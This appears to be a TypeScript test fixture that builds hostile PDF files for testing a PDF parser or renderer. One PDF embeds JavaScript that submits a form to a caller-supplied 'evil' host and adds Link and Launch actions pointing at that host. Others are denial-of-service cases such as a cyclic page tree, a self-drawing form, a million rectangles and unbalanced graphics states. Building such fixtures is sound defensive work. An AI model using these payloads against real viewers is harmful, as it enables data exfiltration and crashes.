/** PDFs that want to do harm, by what they try; each has a page with words where it can. */
export function hostilePdfs(evil: string): ReadonlyMap<string, Buffer> {
  return new Map([
    ['scripts', withScripts(evil)],
    ['a page a mile wide', onePage({ mediaBox: '0 0 2000000 2000000', content: WORDS })],
    ['a page of no size', onePage({ mediaBox: '0 0 0 0', content: WORDS })],
    ['a form that draws itself', selfDrawing()],
    ['a tree of pages in a circle', circle()],
    ['a million rectangles', onePage({ content: `${WORDS} ${'1 1 1 1 re f '.repeat(1_000_000)}` })],
    ['states saved and never restored', onePage({ content: 'q '.repeat(200_000) + WORDS })],
    ['a font that is noise', onePage({ content: WORDS, font: noisyFont() })],
  ]);
}

const WORDS = 'BT /F1 12 Tf 72 700 Td (Words that can be read.) Tj ET';
const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

type Page = { readonly content: string; readonly mediaBox?: string; readonly font?: string };

function onePage({ content, mediaBox = '0 0 612 792', font = HELVETICA }: Page): Buffer {
  return file([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Contents 4 0 R
       /Resources << /Font << /F1 5 0 R >> >> >>`,
    stream('', content),
    font,
    ...(font === HELVETICA ? [] : [stream('/Length1 4000', NOISE)]),
  ]);
}

function withScripts(evil: string): Buffer {
  const script = `/S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("${evil}/js"\\);)`;
  return file([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >>
       /AA << /WC << ${script} >> >>
       /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
       /AA << /O << ${script} >> >> /Annots [6 0 R 7 0 R]
       /Resources << /Font << /F1 5 0 R >> >> >>`,
    stream('', WORDS),
    HELVETICA,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${evil}/link) >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Launch /F (${evil}/run) >> >>`,
  ]);
}

function selfDrawing(): Buffer {
  return file([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
       /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>`,
    stream('', `${WORDS} /X Do`),
    HELVETICA,
    stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 612 792]
       /Resources << /XObject << /X 6 0 R >> >>`,
      '/X Do /X Do',
    ),
  ]);
}

function circle(): Buffer {
  return file([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000000 >>',
    '<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R /Count 500000 >>',
  ]);
}

const NOISE = Array.from({ length: 4_000 }, (_, at) =>
  String.fromCharCode((at * 7_919 + 13) % 256),
).join('');

function noisyFont(): string {
  return `<< /Type /Font /Subtype /TrueType /BaseFont /Noise /FirstChar 32 /LastChar 126
    /Widths [${'500 '.repeat(95)}] /FontDescriptor << /Type /FontDescriptor /FontName /Noise
    /Flags 32 /FontBBox [0 0 1000 1000] /Ascent 800 /Descent -200 /FontFile2 6 0 R >> >>`;
}

function stream(entries: string, content: string): string {
  return `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

function file(objects: readonly string[]): Buffer {
  const parts = ['%PDF-1.7\n'];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  for (const [at, object] of objects.entries()) {
    offsets.push(length);
    parts.push(`${at + 1} 0 obj\n${object}\nendobj\n`);
    length += parts.at(-1)!.length;
  }
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`);
  parts.push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...entries);
  parts.push(`trailer << /Size ${objects.length + 1} /Root 1 0 R >>\n`);
  parts.push(`startxref\n${length}\n%%EOF\n`);
  return Buffer.from(parts.join(''), 'latin1');
}
